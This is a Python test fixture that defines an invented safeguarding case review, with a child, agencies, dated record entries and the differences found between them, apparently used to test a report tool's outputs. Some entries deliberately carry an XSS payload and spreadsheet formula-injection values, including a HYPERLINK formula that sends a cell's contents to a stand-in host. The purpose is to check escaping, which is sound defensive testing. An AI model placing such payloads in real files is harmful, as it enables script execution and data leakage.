"""A small invented review, already analysed: what the tests of outputs are written from."""

from __future__ import annotations

from datetime import date

from keymoments.analysis.records import (
    UNDATED,
    Agency,
    Case,
    Entry,
    Person,
    Precision,
    Problem,
    UncertainDate,
    UncertainTime,
)
from keymoments.analysis.result import Analysis, Difference, UnknownPerson

HOSTILE = '<script>alert("x")</script><img src=x onerror=alert(1)> & "quoted"'
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"look")'


def day(year: int, month: int, number: int, **marks: bool) -> UncertainDate:
    when = date(year, month, number)
    return UncertainDate(when, when, Precision.DAY, **marks)


CASE = Case(
    reference="Child Linnet",
    nation="england",
    scope_from=date(2021, 1, 1),
    scope_to=date(2022, 6, 30),
    people=(
        Person("linnet", "Linnet Ashgrove", "child", ("LA",), subject=True, born=date(2015, 4, 2)),
        Person("mother", "Dee Ashgrove", "mother"),
    ),
    agencies=(
        Agency("csc", "Wrayford Children’s Services", "childrens-social-care", ("records/csc.docx",)),
        Agency("school", "St Brannoc’s Primary", "school", ("records/school.xlsx",)),
        Agency("police", "Marlshire Police", "police", ("records/police.csv",)),
    ),
)

ENTRIES = (
    Entry(
        "csc-001", "k1", "csc", "records/csc.docx", "table 1, row 2", "2019",
        UncertainDate(date(2019, 1, 1), date(2019, 12, 31), Precision.YEAR),
        "History: one earlier referral, closed.", 0,
        in_scope=False,
    ),
    Entry(
        "school-001", "k2", "school", "records/school.xlsx", "sheet Log, row 7", "3/2/21", day(2021, 2, 3),
        "Linnet told the TA she had no tea.\nTA told DSL at once.", 1, "2.10pm", UncertainTime(850, 850, exact=True),
        (("Action\ntaken", "Rang Mum.\nLeft message."), ("Seen by:", "Mrs Quill"), ("Comment", "")),
        ("linnet", "mother"),
    ),
    Entry(
        "police-001", "k3", "police", "records/police.csv", "row 5", "late eve 3/2/21", day(2021, 2, 3, inherited=True),
        FORMULA, 2, "late eve", UncertainTime(1200, 1439, exact=False), (("+cmd", "@SUM(A1)"),),
    ),
    Entry(
        "csc-002", "k4", "csc", "records/csc.docx", "table 1, row 3", "early March",
        UncertainDate(date(2021, 3, 1), date(2021, 3, 10), Precision.APPROXIMATE, assumed_year=True), HOSTILE, 3,
        columns=((HOSTILE, HOSTILE),), confidence=0.83, notes=("hidden row",),
    ),
    Entry(
        "csc-003", "k5", "csc", "records/csc.docx", "table 1, row 4", "?4/3/21", day(2021, 3, 4, doubtful=True),
        "School rang re no tea.\tLogged \x07 late.", 4,
    ),
    Entry("csc-004", "k6", "csc", "records/csc.docx", "table 2, row 1", "", UNDATED, "", 5),
)  # fmt: skip

ANALYSIS = Analysis(
    version="0.1.0",
    pack="england",
    pack_version="2026.1",
    pack_hash="0123456789abcdef",
    case=CASE,
    entries=ENTRIES,
    same_event=(("school-001", "csc-003"),),
    differences=(Difference(("school-001", "csc-003"), "date", ("2021-02-03", "2021-03-04")),),
    unknown_people=(UnknownPerson("Bev <next door>", ("school-001", "csc-003"), "adult, neighbour"),),
    problems=(
        Problem(
            "records/police.csv", "row 9", "The date is no day of the calendar.", "Ask the agency for the right date."
        ),
    ),
)
